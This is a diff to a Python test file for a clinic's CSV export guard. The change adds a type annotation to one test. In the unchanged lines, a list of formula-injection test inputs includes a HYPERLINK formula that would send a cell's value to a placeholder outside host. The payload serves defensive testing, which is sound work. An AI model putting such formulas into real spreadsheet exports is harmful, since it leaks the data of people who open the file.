@@ -9,7 +9,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from clinic.exports.csv_safe import csv_file, file_name, guarded
+from clinic.exports.csv_safe import Cell, csv_file, file_name, guarded
 
 FORMULAS = [
     '=HYPERLINK("http://x.example/?"&A1;"click")',
@@ -51,7 +51,14 @@ def test_no_cell_of_any_text_begins_as_a_formula_does(texts):
 
 
 def test_numbers_days_accents_and_nothing_stay_what_they_are():
-    said = ["Zoë Ńowak 山田 🌿", 'a "b", c;=d', -3, Decimal("-0.5"), date(2027, 2, 1), time(9, 5)]
+    said: list[Cell] = [
+        "Zoë Ńowak 山田 🌿",
+        'a "b", c;=d',
+        -3,
+        Decimal("-0.5"),
+        date(2027, 2, 1),
+        time(9, 5),
+    ]
     content = csv_file(["name"], [[*said, None, True]])
     assert content.startswith(b"\xef\xbb\xbf")
     assert b'"a ""b"", c;=d",-3,-0.5,"2027-02-01","09:05:00","","yes"\r\n' in content
